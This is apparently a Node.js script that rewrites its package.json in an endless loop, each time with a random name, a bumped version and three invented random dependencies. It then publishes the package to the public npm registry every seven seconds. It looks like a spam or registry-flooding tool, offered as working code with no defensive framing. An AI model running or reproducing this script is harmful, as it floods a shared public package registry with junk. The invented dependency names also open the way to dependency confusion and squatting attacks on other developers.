const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');

const names = ['andi', 'budi', 'citra', 'dewi', 'eka', 'fajar', 'gita', 'hadi', 'indah', 'joko', 'kiki', 'lina', 'rizky', 'siti', 'yuni', 'zul'];
const foods = ['rendang', 'sate', 'soto', 'bakso', 'gudeg', 'tapai', 'pempek', 'rawon', 'nasi', 'lontong', 'cilok', 'seblak'];
const rand = (a) => a[Math.floor(Math.random() * a.length)];
const rs = (n) => Math.random().toString(36).slice(2, 2 + n);

function newName() { return `${rand(names)}-${rand(foods)}${Math.floor(Math.random() * 10)}-${rs(5)}`; }

function publishLoop() {
  const pkgPath = path.join(__dirname, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pkgPath, 'utf8'));
  pkg.private = false;
  pkg.name = newName();
  const v = pkg.version.split('.').map(Number); v[2]++; pkg.version = v.join('.');
  pkg.dependencies = pkg.dependencies || {};
  for (let i = 0; i < 3; i++) pkg.dependencies[newName()] = '^1.0.0';
  fs.writeFileSync(pkgPath, JSON.stringify(pkg, null, 2));
  try {
    execSync('npm publish --access public', { cwd: __dirname, stdio: 'inherit' });
    console.log(`published ${pkg.name}@${pkg.version}`);
  } catch (e) {
    console.log('publish failed, retrying with new name');
  }
  setTimeout(publishLoop, 7000);
}

publishLoop();
